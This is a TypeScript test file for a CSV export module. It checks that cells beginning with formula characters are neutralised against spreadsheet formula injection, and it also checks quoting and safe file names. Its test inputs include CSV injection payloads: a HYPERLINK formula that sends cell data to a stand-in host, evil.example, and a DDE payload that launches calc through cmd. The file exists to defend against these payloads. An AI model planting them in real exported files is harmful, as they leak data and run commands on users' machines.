/**
 * The one CSV writer (shared/http/csv.ts): RFC 4180 fields, and every cell a spreadsheet would
 * evaluate neutralised (OWASP CSV injection). Read back with a CSV parser, so that the test
 * checks what a spreadsheet would see, not the writer's own spelling.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvResponse, neutraliseCell, toCsv } from '../../../shared/http/csv.ts';

const read = (csv: string): string[][] => parse(csv, { relax_column_count: false });

describe('neutraliseCell', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
    ],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `'@SUM(1+1)*cmd|' /C calc'!A0`],
    ['+1', `'+1`],
    ['-1', `'-1`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['  =1+1', `'  =1+1`],
  ])('prefixes %j with a single quote', (cell, expected) => {
    expect(neutraliseCell(cell)).toBe(expected);
  });

  it('leaves ordinary cells, and formula characters inside a cell, as they are', () => {
    expect(neutraliseCell('Ada Lovelace')).toBe('Ada Lovelace');
    expect(neutraliseCell('ada+tag@acme.com')).toBe('ada+tag@acme.com');
    expect(neutraliseCell('Smith-Jones')).toBe('Smith-Jones');
    expect(neutraliseCell('2026-11-23')).toBe('2026-11-23');
    expect(neutraliseCell("O'Brien")).toBe("O'Brien");
    expect(neutraliseCell('Zoë 東京')).toBe('Zoë 東京');
    expect(neutraliseCell(null)).toBe('');
    expect(neutraliseCell(undefined)).toBe('');
  });
});

describe('toCsv', () => {
  const columns = ['email', 'name'] as const;

  it('writes a header and one quoted row per record, CRLF line ends', () => {
    const csv = toCsv(columns, [
      { email: 'a@acme.com', name: 'Ada' },
      { email: 'b@acme.com', name: null },
    ]);
    expect(csv).toBe('"email","name"\r\n"a@acme.com","Ada"\r\n"b@acme.com",""\r\n');
  });

  it('quotes commas, quotes and line breaks so that a parser reads the cell back whole', () => {
    const name = 'Lovelace, "Ada"\nCountess';
    const rows = read(toCsv(columns, [{ email: 'a@acme.com', name }]));
    expect(rows).toEqual([
      ['email', 'name'],
      ['a@acme.com', name],
    ]);
  });

  it('neutralises every malicious cell: read back, none starts a formula', () => {
    const names = [
      '=HYPERLINK("http://evil.example","x")',
      '@SUM(A1:A2)',
      '+1',
      '-1',
      '\t=cmd',
      '\r=cmd',
      '=1,2\r\n=3',
    ];
    const rows = read(
      toCsv(
        columns,
        names.map((name) => ({ email: '=x@acme.com', name })),
      ),
    );
    expect(rows.slice(1).map((r) => r[1])).toEqual(names.map((n) => `'${n}`));
    expect(rows.slice(1).every((r) => r[0] === "'=x@acme.com")).toBe(true);
    for (const [email, name] of rows.slice(1)) {
      expect(email).not.toMatch(/^[=+\-@\t\r]/);
      expect(name).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});

describe('csvResponse', () => {
  it('answers text/csv in UTF-8 as an attachment with a safe file name', () => {
    const res = csvResponse('audit "x"\r\n.csv', 'a\r\n', { 'provisio-next-cursor': 'c' });
    expect(res.statusCode).toBe(200);
    expect(res.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': 'attachment; filename="audit__x___.csv"',
      'provisio-next-cursor': 'c',
    });
    expect(res.body).toBe('a\r\n');
  });
});
